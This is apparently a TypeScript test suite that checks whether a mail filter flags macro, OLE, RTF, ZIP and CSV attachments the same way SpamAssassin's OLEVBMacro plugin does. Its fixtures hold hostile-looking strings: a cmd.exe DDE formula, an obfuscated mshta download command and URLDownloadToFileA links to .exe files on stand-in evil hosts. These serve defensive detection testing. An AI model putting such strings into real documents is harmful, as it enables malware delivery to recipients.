/**
 * OLEVBMacro on messages with made documents: the same rules have to hit as in SpamAssassin. Source of the expectations: the
 * library, run by test/rules/peer.pl.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { test } from 'node:test';
import { Deadline } from '../../../lib/deadline.ts';
import { parseRules } from '../../../lib/rules/parse-rules.ts';
import { runRules } from '../../../lib/rules/run-rules.ts';
import { viewSettings } from '../../../lib/rules/view-settings.ts';
import { createViews } from '../../../lib/views/views.ts';
import { oleFile, workbook } from '../../support/office.ts';
import { orSkip } from '../../support/require-program.ts';
import { zipArchive } from '../../support/zip.ts';
import type { ZipEntry } from '../../support/zip.ts';

const PEER = join(import.meta.dirname, '../peer.pl');
const CONFIG = `loadplugin Mail::SpamAssassin::Plugin::OLEVBMacro
body MACRO eval:check_olemacro()
body OBJECT eval:check_oleobject()
body RTF eval:check_olertfobject()
body CSV eval:check_olemacro_csv()
body MALICE eval:check_olemacro_malice()
body RENAMED eval:check_olemacro_renamed()
body ENCRYPTED eval:check_olemacro_encrypted()
body ZIP_PASSWORD eval:check_olemacro_zip_password()
body DOWNLOAD eval:check_olemacro_download_exe()
body REDIRECT eval:check_olemacro_redirect_uri()
body MHTML eval:check_olemacro_mhtml_uri()
uri URI /evil|one|exe/
uri URI_MHTML /^mhtml:/
if can(Mail::SpamAssassin::Plugin::OLEVBMacro::has_olertfobject)
  body CAN_RTF /./
endif
if can(Mail::SpamAssassin::Plugin::OLEVBMacro::has_olemacro_redirect_uri) && can(Mail::SpamAssassin::Plugin::OLEVBMacro::has_olemacro_mhtml_uri)
  body CAN_URI /./
endif
if can(Mail::SpamAssassin::Plugin::OLEVBMacro::has_olemacro)
  body CAN_NOTHING /./
endif`;
const RULES = [...CONFIG.matchAll(/^ *(?:body|uri) (\S+)/gm)].map(([, rule = '']) => rule);
/** Subrules have no scores, so nothing but the hit itself counts. */
const AS_SUBRULES = CONFIG.replace(/^( *(?:body|uri) )/gm, '$1__');

type Content = Buffer | string;
/** What it is, the message, lines of configuration. */
type Row = readonly [string, string, (string | undefined)?];

/** One attachment as base64. */
function attached(name: string, content: Content, type = 'application/octet-stream'): string {
  return part(`Content-Type: ${type}\nContent-Disposition: attachment; filename="${name}"`, content);
}

function part(fields: string, content: Content): string {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  const lines = bytes.toString('base64').replace(/.{76}/g, '$&\n');
  return `--b\n${fields}\nContent-Transfer-Encoding: base64\n\n${lines}\n`;
}

function messageOf(...parts: readonly string[]): string {
  return `From: a@example.com\nTo: b@example.org\nSubject: s\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nhello\n${parts.join('')}--b--\n`;
}

const zipped = (...entries: readonly ZipEntry[]): Buffer => zipArchive(entries);
const entry = (name: string, content: Content = 'x', flags = 0): ZipEntry => ({ name, content, flags });

const TYPES = '<Types><Default Extension="xml" ContentType="application/xml"/></Types>';
const docx = (...more: readonly ZipEntry[]): Buffer =>
  zipped(entry('[Content_Types].xml', TYPES), entry('word/document.xml', '<w/>'), ...more);
const withProject = (code = 'Sub x()'): Buffer => docx(entry('word/vbaProject.bin', code));
const rels = (...relations: readonly string[]): Buffer =>
  docx(
    entry(
      'word/_rels/document.xml.rels',
      `<Relationships>${relations.map(one => `<Relationship Id="1" ${one}/>`).join('')}</Relationships>`,
    ),
  );
const external = (uri: string): string => `Target="${uri}" TargetMode="External"`;
const VBA = '\0Attribut\0e VB_Name';
const CSV = "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''";
const link = (uri: string): string => `${oleFile()}\0${uri}\0`;
const LONG = 'a'.repeat(2500);
const MIXED_COUNT = 60;
const EXTENSIONS = [
  'doc',
  'docm',
  'docx',
  'xls',
  'zip',
  'bin',
  'csv',
  'rtf',
  'pptx',
  'DOC',
  'ZIP',
  'x.zip',
] as const;
const NAME_PIECES = [
  'name',
  'filename',
  '=',
  '=',
  ' ',
  '\t',
  '"',
  "'",
  ';',
  'a.docm',
  'a.docm',
  'b.txt',
  '\n ',
  '*',
  '*0',
  "utf-8''",
  '=?utf-8?Q?x.docm?=',
  '=?utf-8?B?eC5kb2N',
  't?=',
  '\xe9',
];

/** What it is, the name of the file, its content, lines of configuration. */
// prettier-ignore
const DOCUMENTS: readonly (readonly [string, string, Content, string?])[] = [
  ['OLE without macro', 'a.doc', oleFile()],
  ['OLE with macro', 'a.doc', oleFile(VBA)],
  ['OLE with macro that runs', 'a.xls', oleFile(`${VBA} Sub AutoOpen()`)],
  ['OLE with Document_Open', 'a.xls', oleFile(`${VBA} Sub Document_Open()`)],
  ['OLE with another Open', 'a.xls', oleFile(`${VBA} Sub File_Open()`)],
  ['OLE with embedded object', 'a.ppt', oleFile('\x01\0O\0l\0e\x001\x000\0N\0a\0')],
  ['macro sign without header', 'a.doc', `x${VBA}`],
  ['upper case name', 'A.DOC', oleFile(VBA)],
  ['upper case name that is macro', 'A.DOCM', withProject()],
  ['upper case by one own pattern', 'A.DOC', oleFile(VBA), 'olemacro_exts (?i)doc$'],
  ['lower case pattern', 'A.DOC', oleFile(VBA), 'olemacro_exts doc$'],
  ['extension without dot', 'adoc', oleFile(VBA)],
  ['blanks after name', 'a.doc  ', oleFile(VBA)],
  ['RTF objemb', 'a.rtf', '{\\rtf1 {\\object\\objemb}}'],
  ['RTF objdata', 'a.rtf', '{\\rtf1 {\\*\\objdata 00}}'],
  ['RTF objdata with blank', 'a.rtf', '{\\rtf1 {\\ objdata AutoOpen}}'],
  ['RTF without object', 'a.rtf', '{\\rtf1 x}'],
  ['flat XML macrosPresent', 'a.doc', '<w:doc w:macrosPresent="yes">'],
  ['flat XML project', 'a.doc', 'vbaProject.bin.rels'],
  ['docx', 'a.docx', docx()],
  ['docx with project', 'a.docx', withProject()],
  ['docx with project that runs', 'a.docx', withProject('Sub Workbook_Open()')],
  ['docm', 'a.docm', docx()],
  ['docm that is none', 'a.docm', 'x'],
  ['docm that is OLE', 'a.docm', oleFile(VBA + 'AutoOpen')],
  ['xlsx project in capitals', 'a.xlsx', zipped(entry('XL/VBAPROJECT.BIN', 'autoopen'))],
  ['project by Word 97 name', 'a.xlsx', zipped(entry('Macros/VBA/_VBA_PROJECT'))],
  ['xlsx embedding', 'a.xlsx', docx(entry('xl/embeddings/oleObject1.bin'))],
  ['docx with RTF', 'a.docx', docx(entry('word/afchunk.rtf'))],
  ['docx with RTF in backslashes', 'a.docx', docx(entry('word\\afchunk.rtf'))],
  ['docx with RTF of long name', 'a.docx', docx(entry(`word/${'я'.repeat(40)}.rtf`))],
  ['docx with RTF of long UTF-8 name', 'a.docx', docx(entry(`word/${'я'.repeat(40)}.rtf`, 'x', 0x800))],
  ['docx with .rtfx', 'a.docx', docx(entry('word/a.rtfx'))],
  ['types macroEnabled', 'a.docx', zipped(entry('[Content_Types].xml', 'vnd.macroenabled.x'))],
  ['types vbaProject', 'a.docx', zipped(entry('[Content_Types].xml', "contenttype='application/vnd.ms-office.vbaProject'"))],
  ['types macrosheet', 'a.docx', zipped(entry('[Content_Types].xml', 'application/vnd.ms-excel.intlmacrosheet+xml'))],
  ['types in lower case', 'a.docx', zipped(entry('[content_types].xml', 'macroEnabled'))],
  ['types encrypted', 'a.docx', zipped(entry('[Content_Types].xml', 'macroEnabled', 1))],
  ['pptx is skipped', 'a.pptx', withProject()],
  ['ppt', 'a.ppt', withProject('AutoOpen')],
  ['target', 'a.docx', rels(external('http://evil.example.com/x'))],
  ['target in other order', 'a.docx', rels('TargetMode="External" Target="http://evil.example.com/x"')],
  ['target inside', 'a.docx', rels('Target="http://evil.example.com/x" TargetMode="Internal"')],
  ['second target', 'a.docx', rels('Target="a" Target="http://evil.example.com" TargetMode="External"')],
  ['target over two relations', 'a.docx', rels('Target="http://evil.example.com"', 'TargetMode="External"')],
  ['target of a file', 'a.docx', rels(external('file:///evil'))],
  ['mhtml target', 'a.docx', rels(external('mhtml:http://evil.example.com/x!x-usc:y'))],
  ['mhtml target in references', 'a.docx', rels(external('MHTML:&#x48;&#x54;&#x50;&#x3a;&#x5c;&#x5c;&#x31;&#x2e;'))],
  ['mhtml of something else', 'a.docx', rels(external('mhtml:ftp://evil'))],
  ['eleven targets', 'a.docx', rels(...Array.from({ length: 10 }, (_, index) => external(`http://${index}.example.com`)), external('http://evil.example.com'))],
  ['ten targets', 'a.docx', rels(...Array.from({ length: 9 }, (_, index) => external(`http://${index}.example.com`)), external('http://evil.example.com'))],
  ['target in a file of another name', 'a.docx', docx(entry('x.rels.old', `Relationship ${external('http://evil.example.com')}`))],
  ['encrypted package', 'a.docx', oleFile('E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0')],
  ['encrypted package far away', 'a.docx', oleFile(`${'\0'.repeat(2000)}E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0`)],
  ['encrypted package in blanks', 'a.docx', oleFile('E n c r y p t e d P a c k a g e')],
  ['encrypted package in escapes', 'a.docx', oleFile('E\\0n\\0c\\0r\\0y\\0p\\0t\\0e\\0d\\0P\\0a\\0c\\0k\\0a\\0g\\0e')],
  ['encryption in XML', 'a.docx', oleFile(`${'\0'.repeat(3000)}<Encryption XMLNS="x">`)],
  ['byte 0x208', 'a.xls', oleFile('', { 0x208: 0xfe })],
  ['byte 0x214', 'a.xls', oleFile('', { 0x214: 0x2f })],
  ['byte 0x20b', 'a.xls', oleFile('', { 0x20b: 0x13 })],
  ['byte 0x20b of a workbook', 'a.xls', workbook({ 0x20b: 0x13 })],
  ['encrypted docm', 'a.docm', oleFile('', { 0x208: 0xfe })],
  ['renamed OLE', 'a.txt', oleFile(VBA)],
  ['renamed OLE, all scanned', 'a.txt', oleFile(VBA), 'olemacro_extended_scan 1'],
  ['OLE without macro, all scanned', 'a.txt', oleFile(), 'olemacro_extended_scan yes'],
  ['renamed docx, all scanned', 'a.bin', docx(), 'olemacro_extended_scan 1'],
  ['renamed docm, all scanned', 'a.bin', withProject('AutoOpen'), 'olemacro_extended_scan 1'],
  ['zip, all scanned', 'a.bin', zipped(entry('a.docm')), 'olemacro_extended_scan 1'],
  ['zip with renamed, all scanned', 'a.zip', zipped(entry('a.bin', oleFile())), 'olemacro_extended_scan 1'],
  ['zip with folder, all scanned', 'a.zip', zipped({ name: 'd/', method: 'stored' }, entry('b.bin', oleFile())), 'olemacro_extended_scan 1\nolemacro_num_zip 1'],
  ['rels only, all scanned', 'a.bin', zipped(entry('a.rels', 'x')), 'olemacro_extended_scan 1'],
  ['empty rels, all scanned', 'a.bin', zipped(entry('a.rels', 'Relationship ')), 'olemacro_extended_scan 1'],
  ['text, all scanned', 'a.bin', 'text', 'olemacro_extended_scan 1'],
  ['renamed with download, all scanned', 'a.bin', link('http://evil.example.com/abcdefgh/a.exe'), 'olemacro_extended_scan 1'],
  ['skipped, all scanned', 'a.dotx', oleFile(VBA), 'olemacro_extended_scan 1'],
  ['zip with doc', 'a.zip', zipped(entry('a.doc', oleFile(VBA)))],
  ['zip with docm', 'a.zip', zipped(entry('a.docm'))],
  ['zip with pptx', 'a.zip', zipped(entry('a.pptx', withProject()))],
  ['zip with stored doc', 'a.zip', zipped({ name: 'a.doc', content: oleFile(VBA), method: 'stored' })],
  ['zip with project', 'a.zip', zipped(entry('word/vbaProject.bin', 'AutoOpen'))],
  ['zip with docx with project', 'a.zip', zipped(entry('a.docx', withProject('AutoOpen')))],
  ['zip with password', 'a.zip', zipped(entry('a.doc', 'x', 1))],
  ['zip with password and docm', 'a.zip', zipped(entry('a.docm', 'x', 1))],
  ['zip with password and any file', 'a.zip', zipped(entry('a.txt', 'x', 1))],
  ['zip with password and skipped file', 'a.zip', zipped(entry('a.pptx', 'x', 1))],
  ['zip in zip', 'a.zip', zipped(entry('b.zip', zipped(entry('a.docm'))))],
  ['zip in zip in zip', 'a.zip', zipped(entry('b.zip', zipped(entry('c.zip', zipped(entry('a.docm'))))))],
  ['zip in zip in zip, depth 3', 'a.zip', zipped(entry('b.zip', zipped(entry('c.zip', zipped(entry('a.docm')))))), 'olemacro_zip_depth 3'],
  ['zip in zip, depth 1', 'a.zip', zipped(entry('b.zip', zipped(entry('a.docm')))), 'olemacro_zip_depth 1'],
  ['zips off', 'a.zip', zipped(entry('a.docm')), 'olemacro_num_zip 0'],
  ['zip with nine', 'a.zip', zipped(...Array.from({ length: 8 }, (_, index) => entry(`${index}.doc`)), entry('a.docm'))],
  ['zip with eight', 'a.zip', zipped(...Array.from({ length: 7 }, (_, index) => entry(`${index}.doc`)), entry('a.docm'))],
  ['zip with nine others', 'a.zip', zipped(...Array.from({ length: 9 }, (_, index) => entry(`${index}.txt`)), entry('a.docm'))],
  ['zip pattern', 'a.xyz', zipped(entry('a.docm')), 'olemacro_zips xyz$'],
  ['zip that is none', 'a.zip', 'PK nothing'],
  ['zip behind other bytes', 'a.zip', zipArchive([entry('a.doc', oleFile(VBA))], { prefix: Buffer.from('MZ stub') })],
  ['doc is zip behind other bytes', 'a.docx', zipArchive([entry('word/vbaProject.bin')], { prefix: Buffer.from('PKx') })],
  ['zip64', 'a.zip', zipArchive([entry('a.doc', oleFile(VBA))], { isZip64: true })],
  ['zip with descriptor', 'a.zip', zipped(entry('a.doc', oleFile(VBA), 8))],
  ['zip with comment', 'a.zip', zipArchive([entry('a.docm')], { comment: 'c'.repeat(600) })],
  ['zip with long comment', 'a.zip', zipArchive([entry('a.docm')], { comment: 'c'.repeat(40_000) })],
  ['zip cut short', 'a.zip', zipped(entry('a.docm')).subarray(0, -3)],
  ['zip longer than read', 'a.zip', zipped(entry('a.docm')), 'olemacro_max_file 60'],
  ['doc longer than read', 'a.doc', oleFile(VBA), 'olemacro_max_file 100'],
  ['nothing read', 'a.docm', withProject(), 'olemacro_max_file 0'],
  ['csv', 'a.csv', CSV],
  ['csv in capitals', 'A.CSV', CSV],
  ['csv over lines', 'a.csv', CSV.replace('..', '\n')],
  ['csv in zip', 'a.zip', zipped(entry('a.csv', CSV))],
  ['csv of another command', 'a.csv', CSV.replace('cmd', 'calc')],
  ['download', 'a.doc', link('http://evil.example.com/abcdefgh/a.exe')],
  ['download of bat in capitals', 'a.doc', link('HTTPS://EVIL.EXAMPLE.COM/ABCDEF/A.BAT')],
  ['download of pdf', 'a.doc', link('http://evil.example.com/abcdefgh/a.pdf')],
  ['download of short link', 'a.doc', link('http://abcde.fg.exe')],
  ['download of shorter link', 'a.doc', link('http://abcdefghi.exe')],
  ['download of shortest link', 'a.doc', link('http://abcdefghij.exe')],
  ['download ends in dots', 'a.doc', link('http://abcdefghijk....exe')],
  ['download ends in few finals', 'a.doc', link('http://abcdefghijk.abcd.exe')],
  ['download ends in five finals', 'a.doc', link('http://abcdefghijk.abcde.exe')],
  ['download of long link', 'a.doc', link(`http://${LONG.slice(0, 2000)}.exe`)],
  ['download of too long link', 'a.doc', link(`http://${LONG.slice(0, 2001)}.exe`)],
  ['download of long link in two', 'a.doc', link(`http://${LONG.slice(0, 999)}.${LONG.slice(0, 1000)}.exe`)],
  ['download of long link in wrong two', 'a.doc', link(`http://${LONG.slice(0, 1000)}.${LONG.slice(0, 998)}.exe`)],
  ['download before a bar', 'a.doc', `${oleFile()}\0http://evil.example.com/abcdefghxexe|`],
  ['download before a line', 'a.doc', `${oleFile()}\0http://evil.example.com/abcdefgh.exe\n`],
  ['download behind a line', 'a.doc', `${oleFile()}\0http://evil.example.com/abcdefgh\nexe\0`],
  ['download without NUL', 'a.doc', `${oleFile()} http://evil.example.com/abcdefgh.exe\0`],
  ['call first', 'a.doc', `URLDownloadToFileA\0http://evil.example.com/abcdefgh.exe\0`],
  ['call later', 'a.doc', `xURLDownloadToFileA\0http://evil.example.com/abcdefgh.exe\0`],
  ['download marker', 'a.doc', 'x cmd /c ms^h^ta ht^tps:/^/evil'],
  ['download marker in capitals', 'a.doc', 'x CMD.EXE /C MS^H^TA HT^TP:/^/evil'],
  ['own download marker', 'a.doc', 'x fetch evil', 'olemacro_download_marker fetch \\w+'],
  ['download in zip', 'a.zip', zipped(entry('a.docm', link('http://evil.example.com/abcdefgh/a.exe')))],
  ['empty', 'a.docm', ''],
  ['macro pattern', 'a.mmm', 'x', 'olemacro_macro_exts mmm$'],
  ['skip pattern', 'a.docm', 'x', 'olemacro_skip_exts docm$'],
];

// prettier-ignore
const MESSAGES: readonly Row[] = [
  ['no attachment', messageOf()],
  ['csv as text', messageOf(attached('a.csv', CSV, 'text/csv'))],
  ['csv as text that counts', messageOf(attached('a.csv', CSV, 'text/csv')), 'olemacro_skip_ctypes ^image/'],
  ['name in type only', messageOf(part('Content-Type: application/x; name=a.docm', 'x'))],
  ['names differ', messageOf(part('Content-Type: application/x; name=a.docm\nContent-Disposition: x; filename=a.txt', 'x'))],
  ['names differ, type preferred', messageOf(part('Content-Type: application/x; name=a.docm\nContent-Disposition: x; filename=a.txt', 'x')), 'olemacro_prefer_contentdisposition 0'],
  ['names differ in case', messageOf(part('Content-Type: application/x; name=a.docm\nContent-Disposition: x; filename=A.DOCM', 'x'))],
  ['name in RFC 2231', messageOf(part("Content-Type: application/x\nContent-Disposition: x; filename*=utf-8''a.docm", 'x'))],
  ['name in encoded word', messageOf(part('Content-Type: application/x\nContent-Disposition: x; filename="=?utf-8?B?YS5kb2Nt?="', 'x'))],
  ['name in two encoded words', messageOf(part('Content-Type: application/x\nContent-Disposition: x; filename="=?utf-8?Q?a.d?=\n =?utf-8?Q?ocm?="', 'x'))],
  ['name in apostrophes', messageOf(part("Content-Type: application/x; name='a.docm'", 'x'))],
  ['name unquoted with blanks', messageOf(part('Content-Type: application/x; NAME = a b.docm ; x=y', 'x'))],
  ['no type', messageOf(part('Content-Disposition: attachment; filename=a.docm', 'x'))],
  ['7 bit', messageOf(attached('a.docm', 'x').replace('base64', '7bit'))],
  ['quoted-printable', messageOf(attached('a.docm', 'x').replace('base64', 'Quoted-Printable'))],
  ['text type', messageOf(attached('a.docm', 'x', 'text/plain'))],
  ['six documents', messageOf(...Array.from({ length: 5 }, (_, index) => attached(`${index}.doc`, 'x')), attached('a.docm', 'x'))],
  ['five documents', messageOf(...Array.from({ length: 4 }, (_, index) => attached(`${index}.doc`, 'x')), attached('a.docm', 'x'))],
  ['six others', messageOf(...Array.from({ length: 6 }, (_, index) => attached(`${index}.gif`, 'x')), attached('a.docm', 'x'))],
  ['two documents, one counts', messageOf(attached('a.doc', 'x'), attached('a.docm', 'x')), 'olemacro_num_mime 1'],
  ['none counts', messageOf(attached('a.doc', 'x'), attached('a.docm', 'x')), 'olemacro_num_mime 0'],
  ['the whole message', `From: a@b.com\nSubject: s\nContent-Type: application/x; name=a.docm\nContent-Transfer-Encoding: base64\n\nAAAA\n`],
  ['enclosed message', messageOf(`--b\nContent-Type: message/rfc822\n\nSubject: t\nContent-Type: application/x; name=a.docm\nContent-Transfer-Encoding: base64\n\nAAAA\n`)],
];

const rows: readonly Row[] = [
  ...DOCUMENTS.map(([name, file, content, more]): Row => [name, messageOf(attached(file, content)), more]),
  ...MESSAGES,
  ...Array.from({ length: MIXED_COUNT }, (_, index) => mixedRow(index + 1)),
  ...Array.from({ length: MIXED_COUNT }, (_, index) => oddNameRow(index + 1)),
];

/** Small generator (Park and Miller), so that the library sees the same messages each time. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return below => {
    state = (state * 48_271) % 2_147_483_647;
    return Math.floor(state / 7) % below;
  };
}

/** A message with some of the documents above, in archives or not, by any name, under any limits. */
function mixedRow(seed: number): Row {
  const next = numbers(seed);
  const pick = <T>(...from: readonly [T, ...T[]]): T => from[next(from.length)] ?? from[0];
  const file = (): string => {
    const extension = pick(...EXTENSIONS);
    return `${'abc'.slice(next(3))}.${extension}`;
  };
  const content = (depth: number): Content => {
    if (depth > 0 && next(3) > 0)
      return zipArchive(
        Array.from({ length: next(5) }, () => entry(file(), content(depth - 1), pick(0, 0, 0, 1, 8))),
        { isZip64: next(4) === 0 },
      );
    return DOCUMENTS[next(DOCUMENTS.length)]?.[2] ?? '';
  };
  const limits = [
    `olemacro_extended_scan ${next(2)}`,
    `olemacro_zip_depth ${next(4)}`,
    `olemacro_num_zip ${next(5)}`,
    `olemacro_num_mime ${next(4)}`,
  ];
  const parts = Array.from({ length: 1 + next(3) }, () => attached(file(), content(3)));
  return [`mixed ${seed}`, messageOf(...parts), limits.filter(() => next(2) === 0).join('\n')];
}

/** Names of attachments in fields of odd form. */
function oddNameRow(seed: number): Row {
  const next = numbers(seed);
  const odd = (): string =>
    Array.from({ length: next(14) }, () => NAME_PIECES[next(NAME_PIECES.length)]).join('');
  const fields = [`Content-Type: application/x;${odd()}`, `Content-Disposition: attachment;${odd()}`];
  const odds = fields.filter(() => next(4) > 0).join('\n');
  return [
    `name ${seed}: ${odds}`,
    messageOf(part(odds, 'x')),
    `olemacro_prefer_contentdisposition ${next(2)}`,
  ];
}

const cases = rows.map(([name, message, more = '']) => ({
  name,
  message,
  config: `${AS_SUBRULES}\n${more}\n`,
}));

function oursOf({ message, config }: (typeof cases)[number]): string {
  const set = parseRules([{ name: 'test.cf', text: `util_rb_tld com org\n${config}` }]);
  assert.deepEqual(set.faults, []);
  const views = createViews(Buffer.from(message, 'latin1'), { settings: viewSettings(set) });
  const { subrules, failures } = runRules(set, views, { scoreSet: 0, deadline: new Deadline(60_000) });
  assert.deepEqual(failures, []);
  return subrules.join(' ');
}

test('documents are judged as SpamAssassin judges them', context => {
  const modules = ['Mail::SpamAssassin', 'Archive::Zip', 'IO::String'].map(name => `-M${name}`);
  const probe = spawnSync('perl', [...modules, '-e', '1']).status === 0 ? 'perl' : null;
  if (orSkip(context, probe, 'spamassassin, libarchive-zip-perl and libio-string-perl') === undefined) return;
  const { stdout } = spawnSync('perl', [PEER], {
    input: cases.map(({ message, config }) => `${JSON.stringify({ config, message })}\n`).join(''),
    encoding: 'latin1',
    maxBuffer: 2 ** 28,
  });
  const answers = stdout.split('\n').filter(line => line !== '');
  assert.equal(answers.length, cases.length);
  const seen = new Set<string>();
  const differences = cases.flatMap((one, index) => {
    const { subs: theirs } = JSON.parse(answers[index] ?? '') as { subs: string };
    for (const rule of theirs.split(' ')) seen.add(rule);
    const ours = oursOf(one);
    return ours === theirs ? [] : [`${one.name}: SpamAssassin ${theirs}, mailsift ${ours}`];
  });
  assert.deepEqual(differences, []);
  // The cases are of use only as far as they make SpamAssassin say yes somewhere.
  assert.deepEqual(
    RULES.filter(rule => !seen.has(`__${rule}`)),
    ['URI_MHTML', 'CAN_NOTHING'],
  );
});

test('targets are told with the hit', () => {
  const message = messageOf(
    attached('a.docx', rels(external('mhtml:http://evil.example.com/x'), external('http://b.c'))),
  );
  const set = parseRules([{ name: 'test.cf', text: CONFIG }]);
  const views = createViews(Buffer.from(message, 'latin1'), { settings: viewSettings(set) });
  const { hits } = runRules(set, views, { scoreSet: 0, deadline: new Deadline(60_000) });
  const logsOf = (rule: string) => hits.find(hit => hit.rule === rule)?.logs;
  assert.deepEqual(logsOf('REDIRECT'), ['http://evil.example.com/x', 'http://b.c']);
  assert.deepEqual(logsOf('MHTML'), ['mhtml:http://evil.example.com/x']);
});

test('a pattern that is none is a fault, and the default stays', () => {
  const set = parseRules([{ name: 'test.cf', text: `${CONFIG}\nolemacro_exts (doc` }]);
  assert.deepEqual(
    set.faults.map(({ text }) => text),
    ['olemacro_exts: "(doc" is wrong; allowed: a regex without delimiters'],
  );
  const message = messageOf(attached('a.doc', oleFile(VBA)));
  const { hits } = runRules(set, createViews(Buffer.from(message, 'latin1')), {
    scoreSet: 0,
    deadline: new Deadline(60_000),
  });
  assert.ok(hits.some(({ rule }) => rule === 'MACRO'));
});
